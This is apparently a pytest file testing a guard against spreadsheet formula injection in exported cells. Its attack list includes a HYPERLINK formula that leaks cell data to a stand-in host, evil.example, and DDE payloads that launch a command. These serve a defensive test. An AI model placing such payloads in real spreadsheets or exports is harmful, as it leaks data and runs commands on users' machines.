"""Export cells are never formulas; numbers stay numbers; our own mark comes off on import (issue 16, #8)."""

from __future__ import annotations

from decimal import Decimal

import pytest

from core.spreadsheets import formula_safe, formula_safe_row, unmarked

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2, "Cola")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_is_marked_and_comes_back_unmarked(text: str) -> None:
    safe = formula_safe(text)
    assert safe == "'" + text
    assert unmarked(safe) == text


@pytest.mark.parametrize("value", [-12, -12.5, Decimal("-12.50"), 0, Decimal("3.49"), None, True])
def test_numbers_and_other_values_are_left_as_they_are(value: object) -> None:
    assert formula_safe(value) is value


@pytest.mark.parametrize("text", ["-12.50", "+7", "-0.5", "-.5", "-1e3", "12", "Cola 330 ml", "", "a=b", " =1"])
def test_text_that_is_a_signed_number_or_plain_text_is_left_as_it_is(text: str) -> None:
    assert formula_safe(text) == text
    assert unmarked(text) == text


def test_a_row_is_made_safe_cell_by_cell() -> None:
    assert formula_safe_row(iter(["=1", -5, "-5", "@x", "ok"])) == ["'=1", -5, "-5", "'@x", "ok"]


def test_unmarked_takes_off_only_the_mark_before_a_formula_start() -> None:
    assert unmarked("'tis the season") == "'tis the season"
    assert unmarked("''=1") == "''=1"
